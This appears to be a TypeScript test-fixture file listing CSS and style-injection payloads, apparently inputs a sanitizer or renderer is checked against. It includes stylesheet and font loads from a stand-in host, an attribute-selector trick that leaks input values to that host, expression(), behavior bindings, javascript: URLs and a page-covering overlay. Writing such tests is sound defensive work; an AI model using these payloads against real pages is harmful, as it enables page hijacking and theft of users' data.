/** Style sheets and styles: none of them is one. */
import { type Group, plain } from "./payload";

export const CSS: Group = {
  name: "CSS",
  verbatim: true,
  payloads: plain({
    "a sheet": "<style>body{display:none}</style>",
    "a sheet that imports": "<style>@import url(https://hostile.example/s.css);</style>",
    "a sheet from elsewhere": '<link rel="stylesheet" href="https://hostile.example/s.css">',
    "a sheet of data": '<link rel="stylesheet" href="data:text/css,body{display:none}">',
    "a font": "<style>@font-face{font-family:x;src:url(https://hostile.example/f)}</style>",
    "a picture behind": '<p style="background:url(https://hostile.example/b.png)">x</p>',
    "a picture by a set": "<p style=\"background:image-set('https://hostile.example/b.png' 1x)\">x</p>",
    "a pointer": '<p style="cursor:url(https://hostile.example/c.cur),auto">x</p>',
    "a mark of a list": '<li style="list-style:url(https://hostile.example/l.png)">x</li>',
    "words before": "<style>p::before{content:url(https://hostile.example/c.png)}</style>",
    "over everything": '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
    "the page's own classes": '<div class="veil notice"><span class="offscreen">x</span></div>',
    "secrets by selectors": "<style>input[value^=a]{background:url(https://hostile.example/a)}</style>",
    "an expression": '<p style="width:expression(pwned())">x</p>',
    "a behaviour":
      '<p style="behavior:url(https://hostile.example/x.htc);-moz-binding:url(https://hostile.example/x.xml#x)">x</p>',
    "an address that runs": '<p style="background:url(javascript:pwned())">x</p>',
    "attributes in braces": "Title {style=position:fixed onclick=pwned() .veil #app}",
  }),
};
